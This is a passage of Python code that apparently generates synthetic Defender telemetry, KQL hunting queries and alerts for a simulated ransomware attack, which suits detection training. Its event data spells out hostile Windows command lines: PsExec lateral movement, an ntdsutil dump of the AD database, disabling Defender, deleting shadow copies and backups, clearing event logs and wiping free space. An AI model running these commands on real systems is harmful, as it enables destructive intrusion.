    cmd2 = k.spawn(ex2, "cmd", r'"C:\Windows\system32\cmd.exe" ', t_l - MIN, integ="High")
    k.spawn(cmd2, "schtasks", r'schtasks.exe /Change /TN "\Microsoft\Windows\SystemRestore\SR" /disable', t_l - 30 * US)
    rdl2 = k.spawn(ex2, "rundll32", "rundll32.exe", t_l - 50 * US, integ="High")
    k.spawn(rdl2, "schtasks", r'schtasks.exe /Change /TN "\Microsoft\Windows\SystemRestore\SR" /disable', t_l - 20 * US)
    for j in range(6):
        net(rdl2, t_l - 40 * US + j * 9 * MIN, c2_ip, 443, c2)
    k.add("IdentityQueryEvents", t_l - 40 * US, {"ActionType": "LDAP query", "Application": "Active Directory", "QueryType": "AllGroupPolicies",
                                                 "QueryTarget": t.ad_domain, "Protocol": "Ldap",
                                                 "Query": f"Search Scope: WholeSubtree, Base Object:CN=Policies,CN=System,{base}, Search Filter: (objectCategory=groupPolicyContainer)",
                                                 **k.acc(victim), "AccountDisplayName": A.display[victim], "DeviceName": D.name[jump],
                                                 "IPAddress": jump_ip, "Port": 53201, "DestinationDeviceName": D.name[dc],
                                                 "DestinationIPAddress": D.ip[dc], "DestinationPort": 389, "ReportId": ids.guid("s3gpo"),
                                                 "AdditionalFields": "{}"})
    bd_acc = {"AccountName": backdoor, "AccountDomain": t.domain, "AccountSid": backdoor_sid}
    svcs = {}
    for j, d in enumerate(targets + [dc]):
        ts = t_l + j * 3 * MIN
        pe = k.spawn(cmd2, "x_psexec64", rf"{tools}\PsExec64.exe \\{D.short[d]} -accepteula -u {t.domain}\{backdoor} -s -c -f {tools}\{payload}",
                     ts, folder=tools + r"\PsExec64.exe")
        if j == 0:
            k.spawn(cmd2, "x_psexec64", rf"{tools}\psexec.exe \\{D.short[d]} -accepteula -s c:\windows\system32\cmd.exe /c copy \\{D.short[jump]}\C$\Users\Public\Music\{payload} C:\ProgramData\ ",
                    ts + 30 * US, folder=tools + r"\PsExec64.exe")
        net(pe, ts + US, D.ip[d], 445, "", rtype="Private")
        net(pe, ts + 2 * US, D.ip[d], 135, "", rtype="Private")
        filerow(pe, ts + 3 * US, "FileCreated", f"\\\\{D.short[d]}\\ADMIN$", "PSEXESVC.exe", ident="PSEXESVC.exe",
                extra={"RequestProtocol": "SMB"})
        filerow(pe, ts + 4 * US, "FileCreated", f"\\\\{D.short[d]}\\ADMIN$", payload, ident=payload, extra={"RequestProtocol": "SMB"})
        logon(d, ts + US // 2, "LogonSuccess", bd_acc, "Network", jump_ip, rtype="Private", rname=D.name[jump], proto="NTLM", admin=True)
        sysp = bg("system", d, ts)
        filerow(sysp, ts + 3 * US, "FileCreated", r"C:\Windows", "PSEXESVC.exe", ident="PSEXESVC.exe", extra={"RequestProtocol": "SMB", "RequestSourceIP": jump_ip, "RequestAccountName": backdoor, "RequestAccountDomain": t.domain,
                 "ShareName": "ADMIN$"})
        filerow(sysp, ts + 4 * US, "FileCreated", r"C:\Windows", payload, ident=payload, extra={"RequestProtocol": "SMB", "RequestSourceIP": jump_ip, "RequestAccountName": backdoor, "RequestAccountDomain": t.domain,
                 "ShareName": "ADMIN$"})
        services = bg("services", d, ts)
        devevent(services, ts + 5 * US, "ServiceInstalled", {"AccountName": backdoor, "AccountDomain": t.domain,
                                                             "AdditionalFields": js({"ServiceName": "PSEXESVC", "ServiceAccount": "LocalSystem",
                                                                                     "ServiceStartType": 3, "ServiceType": 16,
                                                                                     "ImagePath": "%SystemRoot%\\PSEXESVC.exe"})})
        svc = k.spawn(services, "psexesvc", r"C:\Windows\PSEXESVC.exe", ts + 6 * US, acct=t.acc_system, integ="System")
        devevent(svc, ts + 7 * US, "NamedPipeEvent", {"AdditionalFields": js({"PipeName": f"\\Device\\NamedPipe\\PSEXESVC-{D.short[jump].upper()}-{4000 + j}-stdin",
                                                                              "FileOperation": "File created", "NamedPipeEnd": "Server"})})
        svcs[d] = svc
        cp = k.spawn(svc, "cmd", rf"cmd.exe /c copy C:\Windows\{payload} C:\ProgramData\{payload}", ts + 8 * US, acct=t.acc_system, integ="System")
        filerow(cp, ts + 8 * US + 200_000, "FileCreated", r"C:\ProgramData", payload, ident=payload)
        k.spawn(svc, "cmd", r"cmd.exe /c copy \\" + D.short[jump] + r"\C$\Users\Public\Music\deploy.bat C:\Windows\Temp\deploy.bat", ts + 9 * US,
                acct=t.acc_system, integ="System")
        k.spawn(svc, "cmd", "cmd.exe /c hostname && whoami", ts + 10 * US, acct=t.acc_system, integ="System")
        k.add("IdentityLogonEvents", ts, {"ActionType": "LogonSuccess", "Application": "Active Directory", "LogonType": "Resource access",
                                          "Protocol": "Ntlm", "AccountName": backdoor, "AccountDomain": t.ad_domain, "AccountSid": backdoor_sid,
                                          "AccountUpn": f"{backdoor}@{t.ad_domain}", "AccountObjectId": backdoor_oid, "AccountDisplayName": backdoor,
                                          "DeviceName": D.name[jump], "DeviceType": "Server", "OSPlatform": "Windows Server 2022",
                                          "IPAddress": jump_ip, "Port": 54000 + j, "DestinationDeviceName": D.name[dc],
                                          "DestinationIPAddress": D.ip[dc], "DestinationPort": 445, "TargetDeviceName": D.name[d],
                                          "ReportId": ids.guid("s3lat", j), "AdditionalFields": js({"TO.DEVICE": D.short[d]})})
    svc_dc = svcs[dc]
    nt = k.spawn(svc_dc, "ntdsutil", r'ntdsutil.exe "ac i ntds" "ifm" "create full C:\ProgramData\temp\ntds" q q', t_l + len(targets) * 3 * MIN + MIN)
    filerow(nt, t_l + len(targets) * 3 * MIN + MIN + 9 * US, "FileCreated", r"C:\ProgramData\temp\ntds\Active Directory", "ntds.dit", ident="s3-ntds.dit")
    filerow(nt, t_l + len(targets) * 3 * MIN + MIN + 12 * US, "FileModified", r"C:\ProgramData\temp\ntds\Active Directory", "ntds.dit", ident="s3-ntds.dit")
    filerow(nt, t_l + len(targets) * 3 * MIN + MIN + 13 * US, "FileCreated", r"C:\ProgramData\temp\ntds\registry", "SYSTEM", ident="s3-SYSTEM")
    S._stage(story, "lateral-movement", f"PsExec copies {payload} to the file servers and the domain controller", t_l,
             ["DeviceProcessEvents", "DeviceFileEvents", "DeviceLogonEvents", "DeviceEvents"],
             {"from": D.name[jump], "to": [D.name[d] for d in targets + [dc]], "account": backdoor, "payload": payload},
             f"""DeviceFileEvents
| where FileName =~ "{payload}" and RequestProtocol == "SMB"
| project Timestamp, DeviceName, FolderPath, RequestSourceIP, RequestAccountName""", "T1570")

    # 6. impact: stop everything, delete the backups, clear the logs, encrypt ------------------
    t_x = T(6.5)
    prep = []
    for j, d in enumerate(targets):
        svc = svcs[d]
        base_t = t_x + j * 4 * MIN
        bat = k.spawn(svc, "cmd", r"cmd.exe /c C:\Windows\Temp\deploy.bat", base_t, acct=t.acc_system, integ="System")
        cmds = []
        cmds += [("net", f"net  stop \"{s}\" /y") for s in SERVICES_TO_STOP]
        cmds += [("taskkill", f"taskkill.exe /F /IM {p}") for p in APPS_TO_KILL]
        cmds += [("taskkill", "taskkill.exe /F " + " ".join(f"/IM {p}" for p in PROCS_TO_KILL))]
        cmds += [("sc", f"sc  config {s} start= disabled") for s in SERVICES_TO_DISABLE]
        k.spawn(svc, "powershell", 'powershell.exe -command "Get-Service *sql*,*MSExchange*,*veeam* | Stop-Service -Force"', base_t + US,
                acct=t.acc_system, integ="System")
        cmds += [("powershell", 'powershell.exe -ep bypass -command "Set-MpPreference -DisableIOAVProtection $true -DisableRealtimeMonitoring $true"'),
                 ("vssadmin", "vssadmin.exe delete shadows /all /quiet"), ("wmic", "wmic.exe shadowcopy delete"),
                 ("powershell", f"powershell.exe -nop -enc {encoded('Get-WmiObject Win32_Shadowcopy | ForEach-Object {$_.Delete();}')}"),
                 ("bcdedit", "bcdedit.exe /set {default} bootstatuspolicy ignoreallfailures"),
                 ("bcdedit", "bcdedit.exe /set {default} recoveryenabled no"),
                 ("wbadmin", "wbadmin  delete catalog -quiet"), ("wbadmin", "wbadmin  delete systemstatebackup -keepVersions:0"),
                 ("fsutil", "fsutil.exe usn deletejournal /D C:"),
                 ("icacls", 'icacls "C:\\*" /grant Everyone:F /T /C /Q'), ("cmd", "cmd.exe /c attrib -s -h -r -a *.* /s /d"),
                 ("cmd", r"cmd.exe /c del /s /f /q c:\*.VHD c:\*.bac c:\*.bak c:\*.wbcat c:\*.bkf c:\Backup*.* c:\backup*.* c:\*.set c:\*.win c:\*.dsk")]
        cmds += [("wevtutil", f'wevtutil.exe cl "{lg}"') for lg in LOGS_TO_CLEAR]
        for i, (img, c) in enumerate(cmds):
            ts = base_t + 2 * US + i * 2 * US + (i % 3) * 100_000
            p = k.spawn(bat, img, c, ts)
            if img == "net":
                k.spawn(p, "net1", "C:\\Windows\\system32\\net1 " + c.split("  ", 1)[1], ts + 30_000)
        devevent(bg("svc_eventlog", d, base_t), base_t + (len(cmds) + 3) * 2 * US, "SecurityLogCleared",
                 {"AccountName": "SYSTEM", "AccountDomain": "NT AUTHORITY"})
        t_ci = (base_t + 4 * MIN) // MIN * MIN + 3 * US
        k.spawn(bat, "cipher", r"cipher.exe /w:C:\ProgramData", t_ci)
        k.spawn(bat, "cipher", r"cipher.exe /w:D:\Shares", t_ci + 9 * US)
        prep.append(bat)
    S._stage(story, "inhibit-recovery", "Services stopped, shadow copies and backups deleted, event logs cleared", t_x,
             ["DeviceProcessEvents", "DeviceEvents"],
             {"devices": [D.name[d] for d in targets], "script": r"C:\Windows\Temp\deploy.bat"},
             """DeviceProcessEvents
| where InitiatingProcessCommandLine has @"C:\\Windows\\Temp\\deploy.bat"
| where ProcessCommandLine has_any ("delete shadows", "shadowcopy delete", "delete catalog", "recoveryenabled", "wevtutil.exe cl")
| summarize Commands = make_set(ProcessCommandLine) by DeviceName""", "T1490")

    t_e = t_x + 12 * MIN
    docs = ["Budget", "Contract", "Invoice", "Payroll", "Minutes", "Report", "Plan", "Forecast", "Policy", "Roadmap", "Audit", "Quote"]
    exts = ["docx", "xlsx", "pdf", "pptx", "txt", "jpg"]
    for j, d in enumerate(targets):
        svc = svcs[d]
        enc = k.spawn(svc, "x_payload", rf"C:\Windows\{payload} -path D:\Shares -threads 8", t_e + j * 5 * MIN, acct=t.acc_system,
                      integ="System", folder=rf"C:\Windows\{payload}")
        n = 240
        for i in range(n):
            ts = t_e + j * 5 * MIN + 5 * US + i * 400_000
            dept = ["Finance", "HR", "Sales", "Legal", "Operations", "IT"][i % 6]
            name = f"{docs[i % len(docs)]} {2020 + i % 5} {i:03d}.{exts[i % len(exts)]}"
            folder = rf"D:\Shares\{dept}\{['2023', '2024', 'Archive', 'Projects'][i % 4]}"
            fi = k.file(f"s3-enc-{name}")
            k.add("DeviceFileEvents", ts - 150_000, {**k.by(enc), "ActionType": "FileModified", "FileName": name,
                                                     "FolderPath": f"{folder}\\{name}", "SHA1": fi["sha1"], "SHA256": fi["sha256"],
                                                     "MD5": fi["md5"], "FileSize": int(fi["size"]), "RequestProtocol": "Local",
                                                     "ReportId": 9_370_000_000 + j * 10_000 + i})
            k.add("DeviceFileEvents", ts, {**k.by(enc), "ActionType": "FileRenamed", "FileName": f"{name}.{ext}",
                                           "FolderPath": f"{folder}\\{name}.{ext}", "PreviousFileName": name,
                                           "PreviousFolderPath": f"{folder}\\{name}", "SHA1": fi["sha1"], "SHA256": fi["sha256"],
                                           "MD5": fi["md5"], "FileSize": int(fi["size"]), "RequestProtocol": "Local",
                                           "ReportId": 9_360_000_000 + j * 10_000 + i})
            if i % 20 == 0:
                filerow(enc, ts + 1000, "FileCreated", folder, note, ident="s3-" + note)
        devevent(enc, t_e + j * 5 * MIN + 30 * US, "AsrRansomwareAudited",
                 {"FileName": payload, "FolderPath": rf"C:\Windows\{payload}", "AdditionalFields": js({"IsAudit": True, "RuleId": "c1db55ab-c21a-4637-bb3f-a12568109d35"})})
    S._stage(story, "encryption", f"Files on the shares renamed to .{ext} and ransom notes dropped", t_e,
             ["DeviceFileEvents", "DeviceEvents"],
             {"devices": [D.name[d] for d in targets], "extension": "." + ext, "note": note, "process": payload},
             f"""DeviceFileEvents
| where ActionType == "FileRenamed" and FileName endswith ".{ext}"
| summarize Files = count(), First = min(Timestamp), Last = max(Timestamp) by DeviceName, InitiatingProcessFileName""", "T1486")

    S._alerts(story, [
        (t_in + 2 * MIN, "Multiple failed logon attempts followed by a successful RDP logon", "InitialAccess", "Medium",
         "Microsoft Defender for Endpoint", "EDR", '["Brute Force (T1110)","Remote Services: Remote Desktop Protocol (T1021.001)"]', jump, victim, None),
        (t_c + MIN, "Suspicious access to LSASS service", "CredentialAccess", "High", "Microsoft Defender for Endpoint", "EDR",
         '["OS Credential Dumping: LSASS Memory (T1003.001)"]', jump, victim, pd),
        (t_c + 3 * MIN, "'Mimikatz' hacktool was detected", "CredentialAccess", "High", "Microsoft Defender for Endpoint", "Antivirus",
         '["OS Credential Dumping (T1003)"]', jump, victim, mk),
        (t_d + MIN, "Suspicious LDAP query", "Discovery", "Medium", "Microsoft Defender for Endpoint", "EDR",
         '["Account Discovery: Domain Account (T1087.002)","Domain Trust Discovery (T1482)"]', jump, victim, None),
        (t_d + 2 * MIN, "Account enumeration reconnaissance (LDAP)", "Discovery", "Medium", "Microsoft Defender for Identity",
         "Microsoft Defender for Identity", '["Account Discovery: Domain Account (T1087.002)"]', dc, victim, None),
        (t_p + MIN, "Suspicious additions to sensitive groups", "PrivilegeEscalation", "Medium", "Microsoft Defender for Identity",
         "Microsoft Defender for Identity", '["Account Manipulation (T1098)"]', dc, victim, None),
        (t_r + MIN, "Attempt to turn off Microsoft Defender Antivirus protection", "DefenseEvasion", "Medium",
         "Microsoft Defender for Endpoint", "EDR", '["Impair Defenses: Disable or Modify Tools (T1562.001)"]', jump, victim, None),
        (t_l + MIN, "File dropped and launched from remote location", "LateralMovement", "High", "Microsoft Defender for Endpoint", "EDR",
         '["Lateral Tool Transfer (T1570)"]', targets[0], None, Proc(dev=targets[0], image=im.id("x_payload"), pid=0, ctime=t_l,
                                                                        cmd=rf"C:\Windows\{payload}", acct=t.acc_system,
                                                                        folder=rf"C:\Windows\{payload}")),
        (t_l + 2 * MIN, "Suspected brute-force attack (Kerberos, NTLM)", "CredentialAccess", "Medium", "Microsoft Defender for Identity",
         "Microsoft Defender for Identity", '["Brute Force (T1110)"]', None, victim, None),
        (t_x + MIN, "File backups were deleted", "Impact", "High", "Microsoft Defender for Endpoint", "EDR",
         '["Inhibit System Recovery (T1490)"]', targets[0], None, None),
        (t_x + 2 * MIN, "Event log was cleared", "DefenseEvasion", "Medium", "Microsoft Defender for Endpoint", "EDR",
         '["Indicator Removal: Clear Windows Event Logs (T1070.001)"]', targets[0], None, None),
        (t_e + MIN, "Ransomware behavior detected in the file system", "Ransomware", "High", "Microsoft Defender for Endpoint", "EDR",
         '["Data Encrypted for Impact (T1486)"]', targets[0], None, None),
        (t_e + 3 * MIN, "Ransomware-linked threat actor detected", "Ransomware", "High", "Microsoft Defender XDR", "Microsoft Defender XDR",
         '["Data Encrypted for Impact (T1486)"]', targets[-1], victim, None),
    ])
    S.story_docs.append(story)
